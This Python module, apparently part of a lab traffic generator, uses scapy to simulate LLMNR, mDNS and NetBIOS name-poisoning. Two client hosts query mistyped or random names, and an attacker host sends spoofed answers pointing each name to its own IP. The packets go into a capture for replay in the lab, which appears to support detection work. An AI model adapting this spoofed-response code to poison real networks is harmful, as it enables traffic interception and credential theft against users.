"""LLMNR, NBT-NS and mDNS poisoning by a script. Clients query mistyped names, and random names as browsers do.

Run it as ``python -m pcaps.lab.attacks.poisoning``.
"""

from __future__ import annotations

import ipaddress
import struct
from collections.abc import Iterator
from pathlib import Path

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.layers.inet import IP, UDP
from scapy.packet import Raw

from pcaps._capture import BROADCAST, Capture, Host
from pcaps._office_hosts import ROUTER
from pcaps.lab._lab import Lab, record

ATTACKER = Host("attacker", "88:b1:11:35:69:80", "10.20.10.66")
NAMES = ("fileserv", "wpadd", "qjzkfhwplo", "prnt-2f", "xkvbtyrmaw", "intranett", "nzoqdlhsei")
LLMNR, MDNS = "224.0.0.252", "224.0.0.251"


def _netbios(name: str) -> bytes:
    """A name in NetBIOS encoding (RFC 1001, 14.1)."""
    raw = name.upper()[:15].ljust(15).encode() + b"\0"
    return b"\x20" + b"".join(bytes((65 + (byte >> 4), 65 + (byte & 15))) for byte in raw) + b"\0"


def _queries(capture: Capture, at: float, victim: Host, name: str) -> None:
    """Queries of Windows by LLMNR (RFC 4795), mDNS and NetBIOS, and the response of the poisoner to each."""
    number, port = victim.rng.getrandbits(16), victim.next_port()
    question = DNSQR(qname=name, qtype="A")
    capture.group(at, victim, LLMNR, 5355, DNS(id=number, rd=0, qd=[question], an=[], ns=[], ar=[]), ttl=1, sport=port)
    answer = DNSRR(rrname=name, type="A", ttl=30, rdata=ATTACKER.ip)
    capture.udp(
        at + 0.004, ATTACKER, victim, 5355, port, DNS(id=number, qr=1, rd=0, qd=[question], an=[answer], ns=[], ar=[])
    )
    local = DNSQR(qname=f"{name}.local", qtype="A")
    capture.group(at + 0.05, victim, MDNS, 5353, DNS(id=0, rd=0, qd=[local], an=[], ns=[], ar=[]))
    capture.group(
        at + 0.054,
        ATTACKER,
        MDNS,
        5353,
        DNS(
            id=0,
            qr=1,
            aa=1,
            rd=0,
            qd=[],
            an=[DNSRR(rrname=f"{name}.local", type="A", ttl=120, rdata=ATTACKER.ip)],
            ns=[],
            ar=[],
        ),
    )
    encoded, ip = _netbios(name), ipaddress.ip_address(ATTACKER.ip).packed
    query = struct.pack("!HHHHHH", number, 0x0110, 1, 0, 0, 0) + encoded + struct.pack("!HH", 0x20, 1)
    head = IP(src=victim.ip, dst="10.20.10.255", ttl=128, id=victim.next_ident())
    capture.put(at + 0.1, capture.link(victim, BROADCAST, 0) / head / UDP(sport=137, dport=137) / Raw(query))
    response = (
        struct.pack("!HHHHHH", number, 0x8500, 0, 1, 0, 0) + encoded + struct.pack("!HHIHH", 0x20, 1, 165, 6, 0) + ip
    )
    capture.udp(at + 0.103, ATTACKER, victim, 137, 137, response)


def names(lab: Lab) -> Iterator[None]:
    """Two clients send queries; the poisoner responds to each."""
    clients = [Host(f"desk-{last}", f"a4:bb:6d:00:10:{last:02x}", f"10.20.10.{last}", ttl=128) for last in (21, 22)]
    hosts = [lab.host(one.name, one.ip, one.mac) for one in (*clients, ATTACKER)]
    yield
    capture = Capture(0, ROUTER.mac)
    for number, name in enumerate(NAMES):
        _queries(capture, number * 1.0, clients[number % 2], name)
    lab.replay(capture, *hosts)


if __name__ == "__main__":
    record(Path(__file__).parent, poisoned_names=names)
